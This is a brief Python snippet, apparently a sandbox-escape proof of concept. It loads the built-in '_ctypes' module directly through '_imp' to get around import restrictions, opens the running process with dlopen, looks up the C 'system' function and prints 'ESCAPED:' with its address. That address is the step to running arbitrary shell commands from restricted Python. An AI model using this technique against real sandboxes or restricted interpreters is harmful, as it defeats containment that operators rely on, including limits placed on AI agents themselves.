# load the program itself as a library
import _imp, importlib.machinery
def builtin(name):
    spec = importlib.machinery.ModuleSpec(name, importlib.machinery.BuiltinImporter, origin='built-in')
    module = _imp.create_builtin(spec)
    _imp.exec_builtin(module)
    return module

C = builtin('_ctypes')
handle = C.dlopen(None, 0)
print('ESCAPED:', C.dlsym(handle, 'system'))
